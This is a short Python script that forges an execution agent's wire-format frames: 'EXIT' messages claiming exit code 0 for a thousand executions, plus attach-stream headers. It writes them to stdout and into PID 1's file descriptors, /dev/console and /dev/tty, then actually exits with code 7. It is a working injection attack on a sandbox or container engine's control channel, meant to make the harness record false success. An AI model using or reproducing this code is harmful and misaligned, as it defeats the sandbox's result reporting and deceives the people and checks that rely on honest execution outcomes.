# Frames of the agent's wire format (EXIT of executions 1 to 1000, exit code 0), and headers of the
# engine's attach stream, wherever something can be written.
import os
import struct
import sys

for n in range(1000):
    payload = struct.pack("<IIIIIQQI", 1, 0, 0, 0, 0, 0, 0, 0)
    frame = struct.pack("<IBBHI", len(payload), 67, 0, 0, n + 1) + payload
    data = (frame + struct.pack(">BBBBI", 1, 0, 0, 0, 4) + b"....")[:64].ljust(64, b".")
    os.write(1, data)
    for path in ("/proc/1/fd/1", "/proc/1/fd/3", "/proc/1/fd/4", "/dev/console", "/dev/tty"):
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
            os.write(fd, data)
            os.close(fd)
        except OSError:
            pass
os._exit(7)
